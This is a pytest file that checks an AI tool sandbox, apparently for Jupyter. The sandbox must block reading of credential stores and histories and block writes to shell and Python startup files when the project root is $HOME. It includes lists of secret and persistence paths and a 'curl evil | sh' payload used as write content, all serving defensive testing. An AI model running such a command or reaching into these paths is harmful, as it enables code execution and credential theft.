"""A root of $HOME: credential stores and histories stay unread, startup files unwritten."""

from __future__ import annotations

from pathlib import Path

import pytest

from mira_jupyter.tools.dispatch import dispatch
from mira_jupyter.tools.registry import file_tools
from mira_jupyter.tools.roots import check_project_root
from mira_jupyter.tools.sandbox import Sandbox
from mira_jupyter.tools.types import ToolContext

SECRETS = [
    ".git-credentials",
    ".netrc",
    ".pgpass",
    ".envrc",
    ".npmrc",
    ".pypirc",
    ".docker/config.json",
    ".kube/config",
    ".config/gh/hosts.yml",
    ".local/share/jupyter/runtime/kernel-1234.json",
    ".local/share/jupyter/runtime/jpserver-99.json",
    ".bash_history",
    ".python_history",
    "sub/project/.kube/config",
]
STARTUP = [
    ".bashrc",
    ".profile",
    ".bash_profile",
    ".zshrc",
    ".ipython/profile_default/startup/00-evil.py",
    ".ipython/profile_default/ipython_config.py",
    ".config/autostart/evil.desktop",
    ".gitconfig",
    ".local/lib/python3.11/site-packages/evil.pth",
    ".local/share/jupyter/kernels/python3/kernel.json",
    ".local/bin/ls",
]
TOKEN = "ghp_SECRETTOKEN1234567890"


@pytest.fixture()
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for rel in SECRETS:
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(f"token = {TOKEN}\n")
    (home / ".bashrc").write_text("export PATH=$PATH\n")
    (home / "notes.txt").write_text("plain notes\n")
    return home


def _call(sandbox: Sandbox, tool: str, **args: object):  # noqa: ANN202
    return dispatch(file_tools(), tool, args, ToolContext(sandbox=sandbox))


@pytest.mark.parametrize("rel", SECRETS)
def test_credential_stores_and_histories_are_not_read(home: Path, rel: str) -> None:
    result = _call(Sandbox(home), "read_file", path=rel)
    assert result.denial_reason == "protected_path", (rel, result)


def test_credential_stores_are_neither_listed_nor_searched(home: Path) -> None:
    sandbox = Sandbox(home)
    listed = _call(
        sandbox, "list_files", directory=".", pattern="**/*", include_ignored=True
    ).to_model_text()
    assert "notes.txt" in listed
    for rel in SECRETS:
        assert rel not in listed, (rel, listed)
    found = _call(sandbox, "grep_files", pattern="ghp_SECRET")
    assert TOKEN not in str(found.to_model_text()), found


@pytest.mark.parametrize("rel", STARTUP)
def test_startup_files_of_a_home_root_are_not_writable(home: Path, rel: str) -> None:
    result = _call(Sandbox(home), "write_file", path=rel, content="curl evil | sh\n")
    assert result.denial_reason == "protected_path", (rel, result)
    assert "evil" not in ((home / rel).read_text() if (home / rel).exists() else "")


def test_startup_names_elsewhere_stay_writable(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    result = _call(Sandbox(root), "write_file", path="docker/.bashrc", content="x\n")
    assert result.status == "ok", result
    assert _call(Sandbox(root), "write_file", path="notes.txt", content="x\n").status == "ok"


def test_the_home_warning_is_true(home: Path) -> None:
    warning = check_project_root(home)
    assert warning is not None and "startup files" in warning and ".git-credentials" in warning
    assert _call(Sandbox(home), "read_file", path="notes.txt").status == "ok"


@pytest.mark.parametrize("rel", ["price_history/2024.csv", "data/sales_history", "notes_history.md"])
def test_data_named_history_stays_readable(tmp_path: Path, rel: str) -> None:
    root = tmp_path / "proj"
    (root / rel).parent.mkdir(parents=True)
    (root / rel).write_text("day,price\n1,2\n")
    result = _call(Sandbox(root), "read_file", path=rel)
    assert result.status == "ok", (rel, result)
